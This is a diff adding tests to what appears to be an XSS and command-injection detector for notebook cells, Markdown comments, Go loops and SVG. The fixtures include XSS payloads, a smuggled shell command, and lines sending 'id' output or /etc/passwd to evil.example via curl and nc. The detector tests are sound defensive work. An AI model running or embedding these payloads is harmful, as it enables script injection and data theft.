@@ -3877,3 +3877,31 @@ t.test("forty-third round: a JSON text sent as a field read as the application p
   t.same(q('<svg viewBox="0 0 1 1"><defs><path id="m1" d="m0 0v3.5" stroke="#000000" stroke-width=".8"/></defs><use x="90.02" y="279" stroke="#000000" stroke-width=".8" xlink:href="#m1"/></svg>'), [], 'a tick')
   for (const use of ['<use stroke-width=".8" onload="alert(1)" xlink:href="#m1"/>', '<use stroke-dasharray="1,2" xlink:href="#m1" onmouseover=alert(1) />', '<use stroke-width="url(javascript:alert(1))" xlink:href="#m1"/>']) t.ok(q(`<svg viewBox="0 0 1 1">${use}</svg>`).includes('xss'), use)
 })
+
+t.test("forty-third round, from the seventy-first and seventy-second parts: LLM notebooks' keyword arguments, cell magics, Markdown comments, Go's loop header, an SVG by its size", async (t) => {
+  const cell = (source: string) => json({ cells: [{ cell_type: 'code', metadata: {}, outputs: [], source: source.split(/(?<=\n)/) }] })
+  // Python's keyword argument named for a sink is no sink assigned (a model's prompt handed to it)
+  t.same(cell('prompt = """\n    Sort following animals from biggest to smallest:\n    fish, elephant, dog\n"""\n\nresponse = client.models.generate_content(\n    model=MODEL_ID,\n    contents=prompt,\n)\n\nMarkdown(response.text)'), [], 'contents=prompt,')
+  t.same(cell('interaction = client.interactions.create(\n    model=MODEL_ID,\n    input=prompt\n)\n\nMarkdown(interaction.text)'), [], 'input=prompt⏎)')
+  t.same(q("r = c.generate_content(model=m, contents=prompt, config={'a': 'b'})"), [], 'on one line')
+  for (const v of ['a=prompt,a(1)', 'x=alert;x`1`', '{onerror=alert}throw 1', 'window.onerror=alert;throw 1', 'a=eval;b=alert;a(b+"(1)")', "';a=prompt,a()//", "window[Symbol['split']]=alert)", 'x(onerror=alert)', '"-alert;a=alert,a(document.domain)//']) t.ok(q(v).includes('xss'), v)
+  // Python's `from … import …` is a program's line (the sink-only shapes are not read in a program)
+  t.same(q('from pydantic import BaseModel, Field\n\nclass Topic(BaseModel):\n    name: str = Field(description="The name")\n\nclass Person(BaseModel):\n    first_name: str\n\nresponse = client.models.generate_content(model=model_id, contents=prompt, config={"response_schema": Person})\n'), [], 'a pydantic cell')
+  // a cell run by bash through its magic is a shell script, as one with its interpreter line
+  const bash = '%%bash\n. vars.sh\n\nfile_uri=$(jq -r ".file.uri" file_info.json)\n\ncurl "${file_uri}?key=${GEMINI_API_KEY}" 2>/dev/null'
+  t.same(cell(bash), [], '%%bash')
+  t.same(cell(`#!/bin/bash\n${bash.slice(7)}`), [], 'the same with its interpreter line')
+  t.ok(q('%%bash --bg\n. vars.sh\nx=$(id)\ncurl "http://evil.example/?${x}"').includes('rce'), 'a magic with options is no interpreter line')
+  // a Markdown page's comment on lines of its own is no command line for the shell
+  const page = (comment: string) => json({ body: `## Print Issues\n\nWe have an abstraction for printing found issues.\n\n${comment}\n\n{{< filetree/container >}}\n  {{< filetree/file name="json.go" >}}\n{{< /filetree/container >}}\n` })
+  t.same(page('<!--\n$ tree -L 1 ./pkg/printers/ | grep -v test\n-->'), [], 'a comment to the editors')
+  for (const c of ['<!-- x -->\n$ tree -L 1 ./pkg/printers/ | grep -v test', '<!--\n$ tree | sh -->x\ncat /etc/passwd | nc evil.example 80']) t.ok(page(c).includes('rce'), c)
+  t.ok(page('<!--\n--><img src=x onerror=alert(1)>\n-->').includes('xss'), 'the page\'s other readings still see the comment')
+  // Go's loop header: a condition of one name, a step that assigns again
+  const frames = '\tresult := make([]Frame, 0, n)\n\tframes := runtime.CallersFrames(pcs)\n\tfor f, more := frames.Next(); more; f, more = frames.Next() {\n\t\tresult = append(result, Frame{\n\t\t\tFunction: sanitize(f.Function),\n\t\t\tFile:     f.File,\n\t\t})\n\t}\n\treturn result\n}\n'
+  t.same(json({ snippet: frames }), [], "fx's stack walk")
+  t.ok(json({ snippet: frames.replace('more; f, more = frames.Next()', 'more; id; sh -c x') }).includes('rce'), 'a command for the step')
+  // an inline SVG by its size alone (HTML's), when nothing in it can run
+  t.same(json({ source: 'svg_source = """\n<svg width="400" height="110">\n  <rect width="300" height="100" style="fill:#E0E0E0;" /> \n</svg>\n"""\nsvg = SVG(svg_source)\nsvg' }), [], 'a notebook\'s SVG')
+  for (const v of ['<svg width="400" onload="alert(1)"><rect width="3"/></svg>', '<svg width="400"><rect width="3"/><script>alert(1)</script></svg>', '<svg width="400"><a href="javascript:alert(1)"><rect width="3"/></a></svg>', '<svg height="1"><rect width="3"/><animate onbegin=alert(1) attributeName=x dur=1s>']) t.ok(q(v).includes('xss'), v)
+})
